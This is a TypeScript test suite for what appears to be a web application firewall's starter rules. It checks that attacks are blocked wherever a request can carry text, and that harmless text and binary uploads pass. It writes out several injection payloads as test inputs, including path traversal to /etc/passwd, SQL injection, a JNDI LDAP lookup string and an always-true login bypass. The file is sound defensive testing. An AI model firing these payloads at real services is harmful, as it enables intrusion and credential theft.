// What people write and what attackers send, in all places where a service may read it; and that text patterns find
// nothing in binary data.

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { binaryKinds } from '../../bench/corpora/binary.ts';
import { loadPlan } from '../../src/compile/compile.ts';
import { closePlan } from '../../src/plan/close-plan.ts';
import type { Plan } from '../../src/plan/plan.ts';
import type { InspectionSummary } from '../../src/transaction/inspection.ts';
import { type ExchangeCase, idsOf, runExchange } from '../support/exchange.ts';

const percent = (text: string): string =>
  [...Buffer.from(text, 'utf8')].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
const form = { 'content-type': 'application/x-www-form-urlencoded' };

/** Ways in which a service gets a text. */
const ways: Readonly<Record<string, (text: string) => ExchangeCase>> = {
  query: (text) => ({ target: `/?q=${percent(text)}` }),
  form: (text) => ({ headers: form, body: `a=1&q=${percent(text)}` }),
  password: (text) => ({ headers: { authorization: `Basic ${Buffer.from(`user:${text}`).toString('base64')}` } }),
  JSON: (text) => ({ headers: { 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ q: text })) }),
};

const twice = (text: string, other = text): ExchangeCase => ({
  headers: form,
  body: `a=${percent(text)}&b=${percent(other)}`,
});

/**
 * `attacks` by kind; `everywhere`: those that are tried in every place; `harmless`; `warnings`: what a rule reports, and lets pass
 * alone; `mentions` of what a leak looks like.
 */
const values: {
  readonly attacks: Readonly<Record<string, readonly string[]>>;
  readonly everywhere: readonly string[];
  readonly harmless: readonly string[];
  readonly warnings: readonly string[];
  readonly mentions: readonly string[];
} = JSON.parse(readFileSync(join(import.meta.dirname, 'starter-values.json'), 'utf8'));

describe('the starter pack with what people write and what attackers send', () => {
  let plan: Plan;
  beforeAll(async () => {
    plan = await loadPlan([join(import.meta.dirname, '../../rules/starter')], {
      cacheFolder: join(import.meta.dirname, '../../.cache/pattern-sets'),
    });
  });
  afterAll(() => closePlan(plan));

  const wasBlocked = ({ matches }: InspectionSummary): boolean => matches.some(({ ruleId }) => ruleId >= 1_900_000);

  it('finds attacks in the head of a token and in the name of a user', () => {
    const token = (head: object): string =>
      `Bearer ${Buffer.from(JSON.stringify(head)).toString('base64url')}.e30.c2ln`;
    const found = [
      token({ alg: 'HS256', kid: '../../../../etc/passwd' }),
      token({ alg: 'HS256', kid: "x' union select 'key' from users-- -" }),
      token({ alg: 'HS256', kid: '\x24{jndi:ldap://e.example/a}' }),
      `Basic ${Buffer.from("' or '1'='1:x").toString('base64')}`,
    ].map((authorization) => wasBlocked(runExchange(plan, { headers: { authorization } })));
    expect(found).toStrictEqual(found.map(() => true));
    const authorization = token({ alg: 'RS256', kid: '2024-05-01/key_1', typ: 'at+jwt', x5t: 'Zm9v-_8' });
    expect(wasBlocked(runExchange(plan, { headers: { authorization } }))).toBe(false);
  });

  for (const [kind, texts] of Object.entries(values.attacks)) {
    it(`finds ${kind}`, () => {
      for (const text of texts) {
        for (const [way, exchangeOf] of Object.entries(ways)) {
          expect(wasBlocked(runExchange(plan, exchangeOf(text))), `${way}: ${JSON.stringify(text)}`).toBeTruthy();
        }
      }
    });
  }

  it('lets single warnings pass, however often they occur', () => {
    for (const text of values.warnings) {
      for (const [way, exchangeOf] of Object.entries({ ...ways, 'form, twice': twice })) {
        const summary = runExchange(plan, exchangeOf(text));
        expect(idsOf(summary), `${way}: ${text}`).toHaveLength(1);
        expect(summary.verdict.kind, `${way}: ${text}`).toBe('allow');
      }
    }
    expect(wasBlocked(runExchange(plan, twice(values.warnings[0] ?? '', values.warnings[1])))).toBeTruthy();
  });

  it('lets what people write pass', () => {
    for (const text of values.harmless) {
      for (const [way, exchangeOf] of Object.entries(ways)) {
        expect(idsOf(runExchange(plan, exchangeOf(text))), `${way}: ${text}`).toStrictEqual([]);
      }
    }
  });

  const part = (head: string, content = 'x'): ExchangeCase => ({
    headers: { 'content-type': 'multipart/form-data; boundary=b' },
    body: `--b\r\n${head}\r\n\r\n${content}\r\n--b--\r\n`,
  });
  const places: Readonly<Record<string, (text: string) => ExchangeCase>> = {
    'a file name': (text) => part(`Content-Disposition: form-data; name="f"; filename="${text}"`),
    'the name of a part': (text) => part(`Content-Disposition: form-data; name="${text}"`),
    'the name of a file part': (text) => part(`Content-Disposition: form-data; name="${text}"; filename="a.txt"`),
    'a header of a part': (text) => part(`Content-Disposition: form-data; name="f"\r\nX-Note: ${text}`),
    'the name of a cookie': (text) => ({ headers: { cookie: `a=1; ${text}=2` } }),
    'a cookie without a value': (text) => ({ headers: { cookie: text } }),
    'a segment of the path': (text) => ({ target: `/a/${percent(text)}/b` }),
    'the name of an argument': (text) => ({ target: `/?${percent(text)}=1` }),
    'the name of a form field': (text) => ({ headers: form, body: `${percent(text)}=1` }),
    'the key of a JSON object': (text) => ({
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ [text]: 1 }),
    }),
  };
  for (const [place, exchangeOf] of Object.entries(places)) {
    it(`finds attacks in ${place}`, () => {
      for (const text of values.everywhere) expect(wasBlocked(runExchange(plan, exchangeOf(text))), text).toBeTruthy();
    });
  }

  it('distinguishes leaks from mentions of them', () => {
    for (const mention of values.mentions) {
      for (const body of [JSON.stringify({ help: mention }), `<p>${mention}</p>`]) {
        const response = { headers: { 'content-type': body.startsWith('{') ? 'application/json' : 'text/html' }, body };
        expect(idsOf(runExchange(plan, { response })), body).toStrictEqual([]);
      }
    }
  });

  const bodyBytes = 2 ** 20;
  for (const [kind, make] of Object.entries(binaryKinds)) {
    it(`finds nothing in ${kind} bytes, as a body and as a file`, () => {
      for (let seed = 0; seed < 4; seed += 1) {
        const body = make(seed, bodyBytes);
        const raw = { method: 'PUT', headers: { 'content-type': 'image/jpeg' }, body };
        expect(idsOf(runExchange(plan, raw)), `seed ${seed}`).toStrictEqual([]);
        const file = Buffer.concat([
          Buffer.from('--b\r\nContent-Disposition: form-data; name="f"; filename="a.jpg"\r\n\r\n'),
          body,
          Buffer.from('\r\n--b--\r\n'),
        ]);
        const upload = { headers: { 'content-type': 'multipart/form-data; boundary=b' }, body: file };
        expect(idsOf(runExchange(plan, upload)), `seed ${seed}, uploaded`).toStrictEqual([]);
      }
    });
  }

  it('finds no PHP where three bytes only look like it', () => {
    for (const bytes of [
      [0xff, 0xd8, 0xff, 0xe0, 0x3c, 0x3f, 0x3d, 0],
      [0x3c, 0x3f, 0x3d, 0x41, 0x80, 0x81],
      [0x24, 0x7b, 0x40, 0x61, 0x62, 0x63, 0x40, 1],
    ]) {
      const exchange = { method: 'PUT', headers: { 'content-type': 'image/jpeg' }, body: Buffer.from(bytes) };
      expect(idsOf(runExchange(plan, exchange)), Buffer.from(bytes).toString('hex')).toStrictEqual([]);
    }
  });
});
